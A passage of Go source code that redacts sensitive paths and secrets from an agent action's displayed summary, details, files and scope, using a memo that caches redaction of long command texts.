	return a.Scope.redacted(m)
}

// Redacted returns the action's display parts (summary, details, files) with
// sensitive paths and secrets redacted, its scope the one shown; the scope
// hash is unchanged.
func (a Action) Redacted() Action {
	m := a.memo
	a.Scope = a.shownScope(&m)
	a.Details = slices.Clone(a.Details)
	for i := range a.Details {
		if !a.Details[i].shown {
			a.Details[i].Value = m.text(a.Details[i].Value)
		}
	}
	a.Files = slices.Clone(a.Files)
	for i := range a.Files {
		a.Files[i].Path = RedactPath(a.Files[i].Path)
	}
	a.Summary = m.text(a.Summary)
	return a
}

// RedactedRecord returns what Redacted gives the scope and the summary, the
// two display values an event's action record keeps.
func (a *Action) RedactedRecord() (Scope, string) {
	m := a.memo
	scope := a.shownScope(&m)
	return scope, m.text(a.Summary)
}

// redactMemo redacts each long text of one action once: a command is its
// "Command" detail, its scope's command and the last word of its argv
// (/bin/sh -c), and a here-document of 64 KiB cost a decision four
// searches of it.
//
// mode is the kind of text its action's long texts are (a shell
// command's, classifier.exec); an argv's arguments are read as texts of
// no known kind (redactArgv).
//
// command is the shell text the action runs (its command, a shell's -c
// script, or what write_stdin types): when it is not plain
// (computesProgram), nothing of the action is hidden, as whole says once
// known (read only when something would be hidden).
type redactMemo struct {
	texts   map[string]string
	mode    textMode
	command string
	tainted []string // the environment's variables whose values are hidden
	open    bool     // command is typed into a session and leaves its line open
	homeSet bool     // the exec's environment sets HOME
	known   bool
	whole   bool
}

// computed reports whether m's command computes the program it runs.
func (m *redactMemo) computed() bool {
	if m.open {
		return true // the next call's text may end what this one hides
	}
	if m.command == "" {
		return false
	}
	if !m.known {
		m.known, m.whole = true, computesProgram(m.command, m.tainted)
	}
	return m.whole
}

// runPrefix starts a command's summary (classifier.exec).
const runPrefix = "Run "

// memoMin is the length from which a text is kept in the memo.
const memoMin = 256

func (m *redactMemo) text(s string) string {
	if r := m.redact(s); r != s && !m.computed() {
		if m.command != "" && !inertHiddenIn(s, r, m.homeSet) {
			m.known, m.whole = true, true // a hidden value that may be a path or code (redact_inert.go)
			return s
		}
		return r
	}
	return s
}

func (m *redactMemo) redact(s string) string {
	if m.mode.shell {
		// A command's summary: "Run " is no word of the command (the
		// command's program is the word after it).
		if rest, ok := strings.CutPrefix(s, runPrefix); ok {
			return runPrefix + m.redact(rest)
		}
	}
	if len(s) < memoMin {
		return redactText(s, m.mode)
	}
	if r, ok := m.texts[s]; ok {
		return r
	}
	// A command's summary is "Run " and the command: "Run " holds no
	// pattern's needle and ends a word, so it redacts to itself and
	// changes nothing after it (TestRunPrefixRedactsApart).
	if rest, ok := strings.CutPrefix(s, runPrefix); ok {
		if r, ok := m.texts[rest]; ok {
			return runPrefix + r
		}
	}
	if m.texts == nil {
		m.texts = map[string]string{}
	}
	r := redactText(s, m.mode)
	m.texts[s] = r
	return r
}

// wordBreak reports whether c ends a word for RedactText's path redaction:
// white space, quotes, '=', ',', ':' (a list of paths, PATH=~/.ssh/x:/tmp/bin,
// hid the directory after the sensitive one), brackets, and the shell's
// operators, expansions and escapes (;&|()<>$`{}\).
func wordBreak(c byte) bool {
	return strings.IndexByte(" \t\n\"'=,:[];&|()<>$`{}\\", c) >= 0
}
